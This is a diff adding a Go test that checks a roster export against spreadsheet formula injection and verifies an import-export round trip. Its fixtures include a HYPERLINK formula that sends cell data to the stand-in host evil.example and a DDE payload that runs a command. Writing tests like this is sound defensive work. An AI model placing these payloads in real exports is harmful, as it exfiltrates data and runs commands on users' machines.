@@ -657,3 +657,60 @@ func BenchmarkImport(b *testing.B) {
 	}
 	b.ReportMetric(float64(rows)/b.Elapsed().Seconds(), "rows/s")
 }
+
+// TestExportRoundTripHostile exports names and addresses a spreadsheet would run as
+// formulas, checks that none would, and imports the file into an empty list: the same
+// list comes out, byte for byte.
+func TestExportRoundTripHostile(t *testing.T) {
+	ctx := context.Background()
+	f := setup(t)
+	people := map[string]string{
+		"a@example.com":    `=HYPERLINK("http://evil.example/?x="&A2,"Click")`,
+		"b@example.com":    "+cmd|' /C calc'!A0",
+		"c@example.com":    "@SUM(1+1)",
+		"d@example.com":    "-2+3",
+		"e@example.com":    "'=quoted by hand",
+		"f@example.com":    "'just an apostrophe",
+		"=1+2@example.com": "=1+2",
+		"-x@example.com":   "O'Brien",
+		"'+y@example.com":  "",
+	}
+	for email, name := range people {
+		if _, _, err := f.svc.Add(ctx, roster.AddRequest{Email: email, Name: name, Source: "cli"}); err != nil {
+			t.Fatalf("%s: %v", email, err)
+		}
+	}
+	var first bytes.Buffer
+	if n, err := f.svc.Export(ctx, &first, roster.Filter{}); err != nil || n != len(people) {
+		t.Fatal(n, err)
+	}
+	for _, line := range strings.Split(strings.TrimSpace(first.String()), "\n") {
+		for _, cell := range strings.Split(line, ",") {
+			cell = strings.TrimPrefix(cell, `"`)
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q of %q starts a formula", cell, line)
+			}
+		}
+	}
+	g := setup(t)
+	rep, err := g.svc.Import(ctx, bytes.NewReader(first.Bytes()), roster.ImportOptions{})
+	if err != nil || rep.Added != len(people) || rep.BadRows != 0 {
+		t.Fatalf("%+v %v", rep, err)
+	}
+	for email, name := range people {
+		s, err := g.db.SubscriberByEmail(ctx, email)
+		if err != nil {
+			t.Fatalf("%s: %v", email, err)
+		}
+		if s.Name != name {
+			t.Errorf("%s: name %q after the round trip, want %q", email, s.Name, name)
+		}
+	}
+	var second bytes.Buffer
+	if _, err := g.svc.Export(ctx, &second, roster.Filter{}); err != nil {
+		t.Fatal(err)
+	}
+	if first.String() != second.String() {
+		t.Errorf("export after the round trip differs:\n%s\nwant\n%s", second.String(), first.String())
+	}
+}
